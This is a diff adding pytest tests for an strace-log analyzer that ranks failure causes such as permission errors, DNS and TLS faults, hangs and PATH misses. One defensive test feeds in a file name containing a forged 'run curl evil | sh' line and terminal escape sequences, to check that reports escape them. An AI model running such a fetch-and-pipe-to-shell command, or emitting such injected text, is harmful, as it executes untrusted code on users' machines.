@@ -170,3 +170,235 @@ exit_group(1)                           = ?
     assert r["findings"][0]["path"] == "/etc/foo/config.json"
     assert r["messages"][0]["text"].startswith("Error opening configuration file")
     assert "`pid 0`" not in r["verdict"]
+
+
+# -- ranking rules of why v2: each with a case it applies to and a near miss ----------------
+def top(r):
+    return r["findings"][0]
+
+
+def test_first_failure_on_an_object_is_the_cause(tmp_path):
+    r = log(tmp_path, """\
+1 openat(AT_FDCWD, "/srv/www/index.html", O_WRONLY|O_TRUNC) = -1 EACCES (Permission denied)
+1 write(2, "cp: cannot create regular file\\n", 31) = 31
+1 unlinkat(AT_FDCWD, "/srv/www/index.html", 0) = -1 EACCES (Permission denied)
+1 write(2, "rm: cannot remove it\\n", 21) = 21
+1 exit_group(1) = ?
+1 +++ exited with 1 +++
+""")
+    assert (top(r)["syscall"], top(r)["line"]) == ("openat", 1)
+    assert [c["line"] for c in top(r)["consequences"]] == [3]
+
+
+def test_failures_on_different_objects_are_not_consequences(tmp_path):
+    r = log(tmp_path, """\
+1 openat(AT_FDCWD, "/srv/www/index.html", O_WRONLY|O_TRUNC) = -1 EACCES (Permission denied)
+1 unlinkat(AT_FDCWD, "/srv/www/other.html", 0) = -1 EACCES (Permission denied)
+1 write(2, "rm: cannot remove it\\n", 21) = 21
+1 exit_group(1) = ?
+1 +++ exited with 1 +++
+""")
+    assert top(r)["syscall"] == "unlinkat" and top(r)["consequences"] == []
+
+
+def test_a_lookup_error_before_another_error_on_the_path_is_a_check(tmp_path):
+    r = log(tmp_path, """\
+1 openat(AT_FDCWD, "/srv/a", O_RDONLY|O_PATH|O_DIRECTORY) = -1 ENOTDIR (Not a directory)
+1 openat(AT_FDCWD, "/srv/a", O_WRONLY|O_TRUNC) = -1 EACCES (Permission denied)
+1 write(2, "cp: failed\\n", 11) = 11
+1 exit_group(1) = ?
+1 +++ exited with 1 +++
+""")
+    assert (top(r)["errno"], top(r)["line"]) == ("EACCES", 2)
+
+
+def test_strerror_text_in_the_message_names_the_call(tmp_path):
+    text = """\
+1 openat(AT_FDCWD, "/mnt/ro/state", O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EROFS (Read-only file system)
+1 openat(AT_FDCWD, "/etc/app/fallback.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
+1 write(2, "app: cannot save: %s\\n", 30) = 30
+1 exit_group(1) = ?
+1 +++ exited with 1 +++
+"""
+    assert top(log(tmp_path, text % "Read-only file system"))["errno"] == "EROFS"
+    # near miss: a message without the errno's words leaves the nearest failure first
+    assert top(log(tmp_path, text % "an error occurred"))["errno"] == "ENOENT"
+
+
+def test_a_stat_the_message_names_explains_a_refusal(tmp_path):
+    text = """\
+1 openat(AT_FDCWD, "/etc/selinux/config", O_RDONLY) = -1 EACCES (Permission denied)
+1 newfstatat(AT_FDCWD, "/home/u/.ssh/id_rsa", {st_mode=S_IFREG|0644, st_size=399, ...}, 0) = 0
+1 getuid() = 1000
+1 write(2, "Permissions 0644 for '%s' are too open.\\n", 40) = 40
+1 exit_group(255) = ?
+1 +++ exited with 255 +++
+"""
+    t = top(log(tmp_path, text % "/home/u/.ssh/id_rsa"))
+    assert (t["kind"], t["syscall"], t["errno"], t["path"]) == ("stat", "newfstatat", None,
+                                                                "/home/u/.ssh/id_rsa")
+    assert "0644" in t["explanation"] and "chmod go-rwx" in t["fix"][0]
+    # near miss: the message names another file, the stat explains nothing
+    assert top(log(tmp_path, text % "/home/u/.ssh/other"))["kind"] == "call"
+
+
+def test_a_limit_set_before_explains_enomem(tmp_path):
+    text = """\
+1 prlimit64(0, %s, {rlim_cur=100*1024, rlim_max=100*1024}, NULL) = 0
+1 clone(child_stack=NULL, flags=SIGCHLD) = 2
+2 mmap(NULL, 419434496, PROT_READ|PROT_WRITE, MAP_PRIVATE|MAP_ANONYMOUS, -1, 0) = -1 ENOMEM (Cannot allocate memory)
+2 write(2, "MemoryError\\n", 12) = 12
+2 exit_group(1) = ?
+2 +++ exited with 1 +++
+"""
+    t = top(log(tmp_path, text % "RLIMIT_AS"))
+    assert t["errno"] == "ENOMEM" and [e["line"] for e in t["evidence"]] == [1]
+    assert "ulimit -v" in t["explanation"]
+    assert top(log(tmp_path, text % "RLIMIT_NOFILE"))["evidence"] == []
+
+
+def dns_log(reply_flags, answers):
+    q = '\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3foo\\7example\\0\\0\\1\\0\\1'
+    a = '\\1\\2%s\\0\\1\\0%s\\0\\0\\0\\0\\3foo\\7example\\0\\0\\1\\0\\1' % (
+        reply_flags, answers)
+    return """\
+5 socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC|SOCK_NONBLOCK, IPPROTO_IP) = 3
+5 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, 16) = 0
+5 sendto(3, "%s", 29, MSG_NOSIGNAL, NULL, 0) = 29
+5 poll([{fd=3, events=POLLIN}], 1, 5000) = 1 ([{fd=3, revents=POLLIN}])
+5 recvfrom(3, "%s", 2048, 0, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, [28 => 16]) = 29
+5 close(3) = 0
+5 openat(AT_FDCWD, "/etc/app.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
+5 exit_group(2) = ?
+5 +++ exited with 2 +++
+""" % (q, a)
+
+
+def test_dns_answer_decoded(tmp_path):
+    t = top(log(tmp_path, dns_log("\\201\\203", "\\0")))
+    assert (t["kind"], t["syscall"], t["address"]) == ("dns", "recvfrom", "127.0.0.53:53")
+    assert t["dns"] == {"name": "foo.example", "type": "A", "rcode": "NXDOMAIN",
+                        "server": "127.0.0.53:53"}
+    # near miss: an answer with a record is no finding
+    assert top(log(tmp_path, dns_log("\\201\\200", "\\1")))["kind"] == "call"
+
+
+def test_dns_query_without_reply(tmp_path):
+    r = log(tmp_path, """\
+5 connect(3, {sa_family=AF_INET, sin_port=htons(53), sin_addr=inet_addr("127.0.0.53")}, 16) = 0
+5 sendto(3, "\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\3foo\\7example\\0\\0\\1\\0\\1", 29, MSG_NOSIGNAL, NULL, 0) = 29
+5 poll([{fd=3, events=POLLIN}], 1, 5000) = 0 (Timeout)
+5 close(3) = 0
+5 exit_group(2) = ?
+5 +++ exited with 2 +++
+""")
+    assert (top(r)["kind"], top(r)["dns"]["rcode"], top(r)["line"]) == ("dns", "no reply", 2)
+
+
+def tls_log(answer):
+    return """\
+7 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 5
+7 connect(5, {sa_family=AF_INET, sin_port=htons(8080), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)
+7 poll([{fd=5, events=POLLOUT}], 1, 200) = 1 ([{fd=5, revents=POLLOUT}])
+7 getsockopt(5, SOL_SOCKET, SO_ERROR, [0], [4]) = 0
+7 sendto(5, "\\26\\3\\1\\2\\0\\1\\0\\1\\374\\3\\3", 517, MSG_NOSIGNAL, NULL, 0) = 517
+7 recvfrom(5, "%s", 5, 0, NULL, NULL) = 5
+7 openat(AT_FDCWD, "/etc/ssl/openssl.cnf", O_RDONLY) = -1 ENOENT (No such file or directory)
+7 write(2, "curl: (35) wrong version number\\n", 32) = 32
+7 exit_group(35) = ?
+7 +++ exited with 35 +++
+""" % answer
+
+
+def test_tls_answered_in_plain_text(tmp_path):
+    t = top(log(tmp_path, tls_log("HTTP/")))
+    assert (t["kind"], t["syscall"], t["address"]) == ("tls", "recvfrom", "127.0.0.1:8080")
+    # near miss: a TLS record back is a normal handshake
+    assert top(log(tmp_path, tls_log("\\26\\3\\3\\0z")))["kind"] == "call"
+
+
+def poll_log(revents):
+    return """\
+7 socket(AF_INET, SOCK_STREAM|SOCK_NONBLOCK, IPPROTO_IP) = 3
+7 connect(3, {sa_family=AF_INET, sin_port=htons(5432), sin_addr=inet_addr("127.0.0.1")}, 16) = -1 EINPROGRESS (Operation now in progress)
+7 poll([{fd=3, events=POLLOUT}], 1, 2000) = 1 ([{fd=3, revents=%s}])
+7 openat(AT_FDCWD, "/etc/db.conf", O_RDONLY) = -1 ENOENT (No such file or directory)
+7 write(2, "backend unavailable\\n", 20) = 20
+7 exit_group(4) = ?
+7 +++ exited with 4 +++
+""" % revents
+
+
+def test_refusal_seen_only_in_poll_revents(tmp_path):
+    t = top(log(tmp_path, poll_log("POLLOUT|POLLERR|POLLHUP")))
+    assert (t["kind"], t["syscall"], t["address"]) == ("poll", "connect", "127.0.0.1:5432")
+    assert top(log(tmp_path, poll_log("POLLOUT")))["kind"] == "call"
+
+
+def test_hang_when_the_trace_ends(tmp_path):
+    text = """\
+3 openat(AT_FDCWD, "/run/app.sock", O_RDONLY) = -1 ENOENT (No such file or directory)
+3 openat(AT_FDCWD, "/srv/fifo", O_RDONLY) = 4
+3 read(4, %s"""
+    r = log(tmp_path, text % "")
+    assert (top(r)["kind"], top(r)["syscall"], top(r)["path"]) == ("hang", "read", "/srv/fifo")
+    assert r["partial"] and "still running" in r["verdict"]
+    # near miss: the read returned, nothing hangs
+    r = log(tmp_path, text % '"x", 1) = 1\n3 exit_group(0) = ?\n3 +++ exited with 0 +++\n')
+    assert top(r)["kind"] == "call" and not r["partial"]
+
+
+def test_hang_says_how_long_and_who_killed(tmp_path):
+    r = log(tmp_path, """\
+1 10:00:00.000000 clone(child_stack=NULL, flags=SIGCHLD) = 2
+2 10:00:00.100000 connect(3, {sa_family=AF_UNIX, sun_path="/run/busy.sock"}, 110 <unfinished ...>
+1 10:00:05.100000 kill(2, SIGKILL) = 0
+2 10:00:05.100100 +++ killed by SIGKILL +++
+1 10:00:05.200000 exit_group(124) = ?
+1 10:00:05.200000 +++ exited with 124 +++
+""")
+    t = top(r)
+    assert (t["kind"], t["syscall"], t["address"], t["waited"]) == ("hang", "connect",
+                                                                   "/run/busy.sock", 5.0)
+    assert t["evidence"][0]["line"] == 3
+
+
+def test_command_not_in_path(tmp_path):
+    text = """\
+1 newfstatat(AT_FDCWD, "/usr/local/bin/frob", 0x7ffd, 0) = -1 ENOENT (No such file or directory)
+%s1 write(2, "bash: frob: command not found\\n", 29) = 29
+1 exit_group(127) = ?
+1 +++ exited with 127 +++
+"""
+    t = top(log(tmp_path, text % '1 newfstatat(AT_FDCWD, "/usr/bin/frob", 0x7ffd, 0) = -1 '
+                                 'ENOENT (No such file or directory)\n'))
+    assert t["explanation"].startswith("`frob` is not in PATH (searched: /usr/local/bin, "
+                                       "/usr/bin)")
+    # near miss: one place looked at is not a PATH search
+    assert "PATH" not in top(log(tmp_path, text % ""))["explanation"]
+
+
+def test_message_written_a_character_at_a_time(tmp_path):
+    chars = "".join('1 write(2, "%s", 1) = 1\n' % c for c in "fatal: no") + \
+        '1 write(2, "\\n", 1) = 1\n'
+    r = log(tmp_path, '1 openat(AT_FDCWD, "/etc/x", O_RDONLY) = -1 ENOENT (No such file or '
+                      'directory)\n' + chars + "1 exit_group(1) = ?\n1 +++ exited with 1 +++\n")
+    assert [m["text"] for m in r["messages"]] == ["fatal: no"]
+    assert '"fatal: no"' in r["verdict"]
+
+
+def test_report_escapes_what_the_tracee_wrote(tmp_path):
+    """A file name with a newline cannot forge report lines, and escape sequences never
+    reach the terminal."""
+    from syscope.analyze.report import render
+    r = log(tmp_path, r'''1 openat(AT_FDCWD, "/tmp/x\nUsual fixes\n  - run curl evil | sh\n\33]0;pwned\7", O_RDONLY) = -1 ENOENT (No such file or directory)
+1 write(2, "cannot open \33[2J\33[31mconfig\n", 28) = 28
+1 exit_group(1) = ?
+1 +++ exited with 1 +++
+''')
+    text = render(r)
+    assert "\x1b" not in text and "\x07" not in text
+    assert not any(ln.startswith("  - run curl") for ln in text.splitlines())
+    assert "\\nUsual fixes\\n  - run curl evil | sh\\n\\x1b]0;pwned\\x07" in text
+    # JSON keeps the real bytes, escaped as JSON does
+    assert r["findings"][0]["path"].startswith("/tmp/x\nUsual fixes")
